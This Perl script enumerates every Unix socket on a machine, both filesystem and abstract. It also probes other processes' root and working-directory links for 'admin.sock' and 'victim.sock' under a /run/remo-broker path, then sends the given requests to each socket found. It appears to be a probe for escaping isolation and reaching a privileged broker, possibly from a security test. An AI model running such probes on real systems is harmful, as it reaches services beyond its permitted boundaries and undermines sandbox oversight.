# Connects to every Unix socket that can be found here, in the file system and among the abstract ones, with the
# requests of the arguments. Prints `SOCKET ANSWER` for each answer, and `SOCKET silent` where there is none.
use strict;
use warnings;
use IO::Socket::UNIX;

my %sockets;

sub walk {
    my ($folder) = @_;
    opendir(my $entries, $folder) or return;
    for my $name (readdir $entries) {
        next if $name eq '.' || $name eq '..';
        my $path = $folder eq '/' ? "/$name" : "$folder/$name";
        next if $path eq '/sys' || $path eq '/proc';
        lstat $path;
        my ($link, $socket, $deeper) = (-l _, -S _, -d _);
        if ($link) { $sockets{$path} = 1 if -S $path }
        elsif ($socket) { $sockets{$path} = 1 }
        elsif ($deeper) { walk($path) }
    }
}

walk('/');
# By the roots and folders of other processes, and by their open files.
for my $process (glob '/proc/[0-9]*') {
    for my $name ('admin.sock', 'projects/victim/victim.sock', 'victim.sock', 'admin/admin.sock') {
        for my $way ("$process/root/run/remo-broker", "$process/cwd/../../run/remo-broker", '/run/remo-broker/..') {
            $sockets{"$way/$name"} = 1 if -e "$way/$name";
        }
    }
}
open(my $listed, '<', '/proc/net/unix') or die;
while (<$listed>) {
    $sockets{"\0$1"} = 1 if /\@(\S+)$/;
}
for my $path (sort keys %sockets) {
    my $shown = $path =~ s/\0/@/r;
    my $socket = IO::Socket::UNIX->new(Peer => $path) or do { print "$shown refused\n"; next };
    for my $request (@ARGV) {
        print $socket "$request\n";
        $socket->flush;
        my $answer = eval {
            local $SIG{ALRM} = sub { die "late\n" };
            alarm 5;
            my $line = <$socket>;
            alarm 0;
            $line;
        };
        print "$shown ", $answer // "silent\n";
    }
}
